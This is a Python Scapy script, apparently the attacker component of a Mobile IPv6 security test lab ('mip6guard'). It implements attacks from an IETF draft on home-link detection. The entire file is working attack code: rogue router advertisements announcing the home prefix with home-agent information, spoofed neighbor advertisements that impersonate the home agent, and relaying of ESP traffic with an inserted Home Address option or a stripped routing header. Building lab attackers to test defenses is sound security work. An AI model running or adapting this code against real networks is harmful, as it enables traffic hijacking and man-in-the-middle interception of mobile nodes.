"""The attacker of draft-ebalard-mext-hld-security-00 by Scapy alone: `mip6guard lab attack NAME --attacker "python3 scapy-relay.py"`.

MIP6GUARD_LAB names the directory of the lab, MIP6GUARD_INTERFACE the interface, MIP6GUARD_LINK the link that it is on and
MIP6GUARD_ATTACK what is wanted: rogue-ra, partial-deregistration or relay. Of the lab it knows what an attacker on the
link can know: addresses of home agent and mobile node; routers it hears. It has no keys.
"""

import json
import logging
import os
import select
import signal
import sys
import time
from pathlib import Path

logging.getLogger("scapy").setLevel(logging.CRITICAL)

from scapy.config import conf  # noqa: E402
from scapy.layers.inet6 import (  # noqa: E402
    HAO,
    ICMPv6ND_NA,
    ICMPv6ND_NS,
    ICMPv6ND_RA,
    ICMPv6NDOptDstLLAddr,
    ICMPv6NDOptHAInfo,
    ICMPv6NDOptPrefixInfo,
    ICMPv6NDOptSrcLLAddr,
    IPv6,
    IPv6ExtHdrDestOpt,
    IPv6ExtHdrRouting,
)
from scapy.layers.ipsec import ESP  # noqa: E402
from scapy.layers.l2 import Ether  # noqa: E402

ATTACK = os.environ["MIP6GUARD_ATTACK"]
INTERFACE = os.environ["MIP6GUARD_INTERFACE"]
SITE = json.loads(Path(os.environ["MIP6GUARD_LAB"], "site.yaml").read_text())
HOME_AGENT = SITE["homeAgents"][0]["addresses"][0]
HOME_ADDRESS = SITE["mobileNodes"][0]["homeAddress"]
OWN = Path(f"/sys/class/net/{INTERFACE}/address").read_text().strip()
LINK_LOCAL = "fe80::5eff:fe00:5366"
ADVERTISE_EVERY = 0.5

known = {"router": None, "address": None, "mobile": None}


def put(destination, packet):
    LINK.send(Ether(src=OWN, dst=destination, type=0x86DD) / packet)


def advertise():
    """Section 5.2: the home prefix, with the address of the home agent."""
    message = (
        ICMPv6ND_RA(H=1, routerlifetime=1800)
        / ICMPv6NDOptPrefixInfo(prefix=HOME_AGENT, prefixlen=64, L=1, A=1, R=1)
        / ICMPv6NDOptHAInfo(pref=100, lifetime=1800)
        / ICMPv6NDOptSrcLLAddr(lladdr=OWN)
    )
    put("33:33:00:00:00:01", IPv6(src=LINK_LOCAL, dst="ff02::1", hlim=255) / message)


def answer(frame):
    """Whoever asks for the attacker, or for the home agent on this link, gets the attacker."""
    packet = frame[IPv6]
    target = packet[ICMPv6ND_NS].tgt
    if packet.src == "::" or target not in (HOME_AGENT, LINK_LOCAL, known["address"]):
        return
    message = ICMPv6ND_NA(tgt=target, R=1, S=1, O=1) / ICMPv6NDOptDstLLAddr(lladdr=OWN)
    put(frame.src, IPv6(src=target, dst=packet.src, hlim=255) / message)


def relay(packet):
    """Section 5.3: a Home Address option is inserted, and the source is an address that gets answers."""
    options = IPv6ExtHdrDestOpt(options=[HAO(hoa=packet.src)])
    put(known["router"], IPv6(src=known["address"], dst=packet.dst) / options / packet[ESP])


def strip(packet):
    """Section 5.3: without its routing header it is what a node at home expects."""
    bare = IPv6(src=packet.src, dst=HOME_ADDRESS) / packet[ESP]
    put(known["mobile"], bare)


def heard(frame):
    packet = frame[IPv6]
    if ICMPv6ND_RA in packet and ICMPv6NDOptPrefixInfo in packet:
        known["router"] = frame.src
        known["address"] = packet[ICMPv6NDOptPrefixInfo].prefix + "66"
    elif ICMPv6ND_NS in packet:
        answer(frame)
    elif ATTACK == "rogue-ra" or ESP not in packet:
        return
    elif frame.dst == OWN and packet.src == HOME_ADDRESS and packet.dst == HOME_AGENT:
        known["mobile"] = frame.src
        # Payload is under ESP as well; it would be of no use.
        relay(packet)
    elif ATTACK == "relay" and packet.dst == known["address"] and IPv6ExtHdrRouting in packet:
        strip(packet)


signal.signal(signal.SIGTERM, lambda *_: sys.exit(0))
LINK = conf.L2socket(iface=INTERFACE)
next_advertisement = 0
while True:
    # Without a router there is nobody to relay by.
    if known["router"] is not None and time.monotonic() >= next_advertisement:
        advertise()
        next_advertisement = time.monotonic() + ADVERTISE_EVERY
    if not select.select([LINK], [], [], 0.05)[0]:
        continue
    received = LINK.recv()
    if received is not None and IPv6 in received and received.src != OWN:
        heard(received)
